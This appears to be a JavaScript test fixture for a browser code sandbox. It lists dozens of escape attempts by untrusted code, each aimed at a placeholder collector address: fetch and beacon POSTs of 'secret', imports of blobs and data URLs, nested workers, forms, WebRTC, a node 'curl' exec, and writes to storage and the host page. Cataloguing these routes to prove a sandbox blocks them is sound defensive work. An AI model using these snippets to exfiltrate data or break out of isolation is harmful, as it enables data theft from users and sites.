/**
 * Ways out of the sandbox: to the network, to the site's storage, to the page. Each is tried in every place where foreign code
 * runs, and where nothing protects, which must show that it works there or say why this browser has no such way.
 *
 * Whether one got out is seen from outside only: the collector counts what arrives at AT (an address of this attempt), and
 * the page looks for MARK (a word of this attempt) in its storage and among its messages.
 *
 * @typedef {object} Escape
 * @property {string} name
 * @property {'network' | 'storage' | 'page'} to
 * @property {string} code the body of an asynchronous function; what it gives back is reported
 * @property {true} [window] only windows have this: the control runs in one
 * @property {true} [datagram] it would arrive as a datagram, which carries no mark
 * @property {true} [absent] no control: nothing in this browser answers it even without protection
 */

/** @param {string} source */
const inWorker = (source) =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source).replaceAll('AT', '" + AT + "').replaceAll('MARK', '" + MARK + "')}])))`;

/** @type {readonly Escape[]} */
const NETWORK = [
  { name: 'fetch', to: 'network', code: `await fetch(AT)` },
  { name: 'fetch, no-cors', to: 'network', code: `await fetch(AT, { mode: 'no-cors' })` },
  {
    name: 'fetch, POST',
    to: 'network',
    code: `await fetch(AT, { method: 'POST', mode: 'no-cors', body: 'secret' })`,
  },
  {
    name: 'fetch, preflight',
    to: 'network',
    code: `await fetch(AT, { method: 'PUT', headers: { 'x-secret': '1' }, body: 'secret' })`,
  },
  {
    name: 'fetch, keepalive',
    to: 'network',
    code: `await fetch(AT, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' })`,
  },
  {
    name: 'fetch, streamed body',
    to: 'network',
    code: `await fetch(AT, { mode: 'no-cors', method: 'POST', body: new Blob(['secret']) })`,
  },
  {
    name: 'fetch, only-if-cached turned round',
    to: 'network',
    code: `await fetch(new Request(AT, { cache: 'reload', mode: 'no-cors', credentials: 'include' }))`,
  },
  {
    name: 'fetch, referrer',
    to: 'network',
    code: `await fetch(AT, { mode: 'no-cors', referrerPolicy: 'unsafe-url', priority: 'high' })`,
  },
  { name: 'fetch, integrity', to: 'network', code: `await fetch(AT, { integrity: 'sha256-AAAA' })` },
  {
    name: 'XMLHttpRequest',
    to: 'network',
    code: `const x = new XMLHttpRequest(); x.open('GET', AT); x.send();`,
  },
  {
    name: 'XMLHttpRequest, synchronous',
    to: 'network',
    code: `const x = new XMLHttpRequest(); x.open('POST', AT, false); x.send('secret');`,
  },
  { name: 'WebSocket', to: 'network', code: `new WebSocket(AT.replace('http', 'ws'))` },
  {
    name: 'WebSocketStream',
    to: 'network',
    code: `await new WebSocketStream(AT.replace('http', 'ws')).opened`,
  },
  { name: 'EventSource', to: 'network', code: `new EventSource(AT)` },
  {
    name: 'WebTransport',
    to: 'network',
    code: `await new WebTransport(AT.replace('http:', 'https:')).ready`,
    absent: true,
  },
  { name: 'sendBeacon', to: 'network', code: `navigator.sendBeacon(AT, 'secret')`, window: true },
  {
    name: 'fetchLater',
    to: 'network',
    code: `fetchLater(AT, { activateAfter: 0 })`,
    window: true,
  },
  { name: 'importScripts', to: 'network', code: `importScripts(AT)` },
  {
    name: 'importScripts of a blob that imports',
    to: 'network',
    code: `importScripts(URL.createObjectURL(new Blob(['importScripts("' + AT + '")'])))`,
  },
  {
    name: 'importScripts of data',
    to: 'network',
    code: `importScripts('data:text/javascript,importScripts("' + AT + '")')`,
  },
  { name: 'dynamic import', to: 'network', code: `await import(AT)` },
  { name: 'dynamic import, evaluated', to: 'network', code: `await (0, eval)('import("' + AT + '")')` },
  {
    name: 'dynamic import, in a made function',
    to: 'network',
    code: `await new Function('return import("' + AT + '")')()`,
  },
  {
    name: 'dynamic import of data that imports',
    to: 'network',
    code: `await import('data:text/javascript,import "' + AT + '"')`,
  },
  {
    name: 'dynamic import of a blob that imports',
    to: 'network',
    code: `await import(URL.createObjectURL(new Blob(['import "' + AT + '"'], { type: 'text/javascript' })))`,
  },
  {
    name: 'dynamic import of JSON',
    to: 'network',
    code: `await (0, eval)('import("' + AT + '", { with: { type: "json" } })')`,
  },
  { name: 'a worker from the network', to: 'network', code: `new Worker(AT)` },
  { name: 'a module worker from the network', to: 'network', code: `new Worker(AT, { type: 'module' })` },
  {
    name: 'a worker from a blob that fetches',
    to: 'network',
    code: inWorker(`fetch('AT', { mode: 'no-cors' })`),
  },
  { name: 'a worker from a blob that imports scripts', to: 'network', code: inWorker(`importScripts('AT')`) },
  { name: 'a worker from a blob that imports', to: 'network', code: inWorker(`import('AT')`) },
  {
    name: 'a worker from a blob with a socket',
    to: 'network',
    code: inWorker(`new WebSocket('AT'.replace('http', 'ws'))`),
  },
  {
    name: 'a module worker from a blob',
    to: 'network',
    code: `new Worker(URL.createObjectURL(new Blob(['import "' + AT + '"'], { type: 'text/javascript' })), { type: 'module' })`,
  },
  {
    name: 'a worker from data',
    to: 'network',
    code: `new Worker('data:text/javascript,fetch("' + AT + '",{mode:"no-cors"})')`,
  },
  {
    name: 'a worker in a worker in a worker',
    to: 'network',
    code: inWorker(`new Worker(URL.createObjectURL(new Blob(["fetch('AT', { mode: 'no-cors' })"])))`),
  },
  { name: 'a shared worker', to: 'network', code: `new SharedWorker(AT)`, window: true },
  {
    name: 'a shared worker from a blob',
    to: 'network',
    code: `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + AT + '", { mode: "no-cors" })'])))`,
    window: true,
  },
  {
    name: 'a service worker',
    to: 'network',
    code: `await navigator.serviceWorker.register(AT)`,
    absent: true,
  },
  {
    name: 'a source map',
    to: 'network',
    code: `(0, eval)('throw new Error("mapped") //# sourceMappingURL=' + AT)`,
    absent: true,
  },
  { name: 'a font', to: 'network', code: `await new FontFace('leak', 'url(' + AT + ')').load()` },
  { name: 'WebAssembly, streamed', to: 'network', code: `await WebAssembly.compileStreaming(fetch(AT))` },
  {
    name: 'a cache filled from the network',
    to: 'network',
    code: `await (await caches.open('leak')).add(AT)`,
  },
  {
    name: 'a report of the browser',
    to: 'network',
    code: `await new Promise((done) => { new ReportingObserver(done).observe(); setTimeout(done, 100); }); throw new Error('no way to name an address')`,
    absent: true,
  },
  { name: 'an image', to: 'network', code: `new Image().src = AT`, window: true },
  {
    name: 'an image of bytes',
    to: 'network',
    code: `await createImageBitmap(await (await fetch(AT, { mode: 'no-cors' })).blob())`,
  },
  {
    name: 'a video',
    to: 'network',
    code: `Object.assign(document.createElement('video'), { src: AT, preload: 'auto' }).load()`,
    window: true,
  },
  {
    name: 'a script',
    to: 'network',
    code: `document.head.append(Object.assign(document.createElement('script'), { src: AT }))`,
    window: true,
  },
  {
    name: 'a style sheet',
    to: 'network',
    code: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: AT }))`,
    window: true,
  },
  {
    name: 'a prefetch',
    to: 'network',
    code: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: AT }))`,
    window: true,
  },
  {
    name: 'a frame',
    to: 'network',
    code: `document.body.append(Object.assign(document.createElement('iframe'), { src: AT }))`,
    window: true,
  },
  {
    name: 'a form',
    to: 'network',
    code: `const form = Object.assign(document.createElement('form'), { action: AT, target: document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'leak' })).name }); document.body.append(form); form.submit();`,
    window: true,
  },
  { name: 'an opened window', to: 'network', code: `open(AT)`, window: true },
  {
    name: 'a peer connection',
    to: 'network',
    code: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(AT).host }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((done) => setTimeout(done, 500));`,
    datagram: true,
    window: true,
  },
  { name: 'a navigation', to: 'network', code: `location.href = AT`, window: true },
  {
    name: 'a background fetch',
    to: 'network',
    code: `await (await navigator.serviceWorker.ready).backgroundFetch.fetch('leak', AT)`,
    absent: true,
  },
  { name: 'node’s http', to: 'network', code: `(await import('node:http')).get(AT)`, absent: true },
  {
    name: 'node’s http, required',
    to: 'network',
    code: `globalThis['require']('http').get(AT)`,
    absent: true,
  },
  {
    name: 'a process',
    to: 'network',
    code: `(await import('node:child_process')).execSync('curl ' + AT)`,
    absent: true,
  },
  {
    name: 'process bindings',
    to: 'network',
    code: `process.binding('tcp_wrap'); process.getBuiltinModule('http').get(AT)`,
    absent: true,
  },
];

/** @type {readonly Escape[]} */
const STORAGE = [
  {
    name: 'IndexedDB',
    to: 'storage',
    code: `await new Promise((done, fail) => { const r = indexedDB.open(MARK); r.onsuccess = () => { r.result.close(); done(); }; r.onerror = () => fail(r.error); })`,
  },
  {
    name: 'the cache',
    to: 'storage',
    code: `await (await caches.open(MARK)).put('/' + MARK, new Response('x'))`,
  },
  {
    name: 'the private file system',
    to: 'storage',
    code: `await (await navigator.storage.getDirectory()).getFileHandle(MARK, { create: true })`,
  },
  { name: 'storage buckets', to: 'storage', code: `await navigator.storageBuckets.open(MARK.toLowerCase())` },
  { name: 'a cookie', to: 'storage', code: `document.cookie = MARK + '=1'`, window: true },
  { name: 'the cookie store', to: 'storage', code: `await cookieStore.set(MARK, '1')`, window: true },
  { name: 'local storage', to: 'storage', code: `localStorage.setItem(MARK, '1')`, window: true },
  { name: 'session storage', to: 'storage', code: `sessionStorage.setItem(MARK, '1')`, window: true },
  {
    name: 'a lock',
    to: 'storage',
    code: `await new Promise((held, fail) => navigator.locks.request(MARK, () => { held(); return new Promise(() => {}); }).catch(fail))`,
  },
  {
    name: 'the old file system',
    to: 'storage',
    code: `webkitRequestFileSystemSync(0, 1024).root.getFile(MARK, { create: true })`,
  },
  {
    name: 'IndexedDB in a nested worker',
    to: 'storage',
    code: `${inWorker(`indexedDB.open('MARK')`)}; await new Promise((done) => setTimeout(done, 300))`,
  },
];

/** @type {readonly Escape[]} */
const PAGE = [
  {
    name: 'a broadcast channel',
    to: 'page',
    code: `const c = new BroadcastChannel('attack'); c.postMessage(MARK); await new Promise((done) => setTimeout(done, 100))`,
  },
  {
    name: 'the channel of an open run',
    to: 'page',
    code: `const c = new BroadcastChannel('lamarck-run-1'); c.postMessage(MARK); await new Promise((done) => setTimeout(done, 100))`,
  },
  { name: 'a message to whoever made it', to: 'page', code: `postMessage(MARK)` },
  { name: 'a message to the parent', to: 'page', code: `parent.postMessage(MARK, '*')`, window: true },
  {
    name: 'a message to the opener and the top',
    to: 'page',
    code: `(top ?? opener).postMessage(MARK, '*')`,
    window: true,
  },
  { name: 'the parent’s document', to: 'page', code: `parent.document.title = MARK`, window: true },
  { name: 'the document', to: 'page', code: `document.title = MARK`, window: true },
  {
    name: 'the clients of a service worker',
    to: 'page',
    code: `(await self.clients.matchAll()).forEach((client) => client.postMessage(MARK))`,
    absent: true,
  },
  {
    name: 'a broadcast in a nested worker',
    to: 'page',
    code: `${inWorker(`new BroadcastChannel('attack').postMessage('MARK')`)}; await new Promise((done) => setTimeout(done, 300))`,
  },
];

/** @type {readonly Escape[]} */
export const ESCAPES = [...NETWORK, ...STORAGE, ...PAGE];
